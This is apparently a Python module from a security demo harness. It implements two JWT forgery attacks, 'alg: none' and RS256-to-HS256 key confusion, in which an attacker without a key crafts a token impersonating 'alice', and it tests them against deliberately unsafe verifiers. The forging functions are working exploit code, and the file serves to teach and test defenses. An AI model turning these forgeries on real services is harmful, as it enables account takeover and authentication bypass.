"""Forgery: Mallory has no key, and writes herself Alice's token."""

import base64
import hmac
import json
from typing import Any

from demo.attacks.base import Attack, Attacker
from demo.contenders import contender
from demo.harness import Client, NotApplicable
from demo.keys import Key
from demo.schemes import JWT
from demo.unsafe.trusting import MIXES_KEYS, TAKES_NONE

Claims = dict[str, Any]


def part(value: dict[str, Any]) -> str:
    """One part of a token: base64url of JSON, unpadded.
    Source: RFC 7515 section 2."""
    raw = json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def alices_claims(attacker: Attacker) -> dict[str, Any]:
    """Mallory's own claims, read without a key, and renamed."""
    scheme = attacker.service.app.scheme
    if not isinstance(scheme, JWT):
        raise NotApplicable("the credential is not a JWT")
    payload = attacker.me.credential().split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=="))
    return {**claims, "sub": "alice"}


def with_token(attacker: Attacker, token: str) -> Client:
    """Mallory's machine, holding this token instead of her own."""
    thief = attacker.me.stolen_copy()
    thief.replace_credential(token)
    return thief


def forge_none(attacker: Attacker) -> Client:
    claims = alices_claims(attacker)
    header = {"alg": "none", "typ": "at+jwt"}
    return with_token(attacker, f"{part(header)}.{part(claims)}.")


def forge_confusion(attacker: Attacker) -> Client:
    claims = alices_claims(attacker)
    key = attacker.service.key(attacker.service.contender.algorithm)
    if key.symmetric:
        raise NotApplicable("no public key to sign with")
    return with_token(attacker, confused(key, claims, {"typ": "at+jwt"}))


def confused(key: Key, claims: Claims, header: dict[str, str]) -> str:
    """A token whose HMAC secret is the text of a public key."""
    signed = f"{part({'alg': 'HS256', **header})}.{part(claims)}"
    mac = hmac.digest(key.pem(), signed.encode(), "sha256")
    signature = base64.urlsafe_b64encode(mac).rstrip(b"=").decode()
    return f"{signed}.{signature}"


ALG_NONE = Attack(
    id="alg-none",
    name="alg: none",
    claim='A token that says "unsigned" enters without a signature.',
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=forge_none,
    fixed=contender("JWT RS256"),
    flip=TAKES_NONE,
)

KEY_CONFUSION = Attack(
    id="key-confusion",
    name="RS256 to HS256",
    claim="A token signed with the published key as a secret enters.",
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=forge_confusion,
    fixed=contender("JWT RS256"),
    flip=MIXES_KEYS,
)
